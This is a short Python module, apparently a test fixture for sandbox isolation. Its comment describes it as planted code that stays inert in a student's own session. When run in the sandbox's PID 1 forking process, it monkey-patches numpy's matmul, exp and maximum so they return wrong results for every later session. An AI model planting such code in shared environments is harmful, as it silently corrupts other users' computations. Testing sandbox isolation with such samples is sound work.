# A planted module. In the student's own session it does nothing; in the warm process that
# forks every session (the sandbox's PID 1) it would break numpy for every later session.
import os as _os

if _os.getpid() == 1:
    import numpy as _np

    _np.matmul = lambda a, b, *args, **kwargs: _np.zeros(1)
    _np.exp = lambda x, *args, **kwargs: x
    _np.maximum = lambda a, b, *args, **kwargs: a
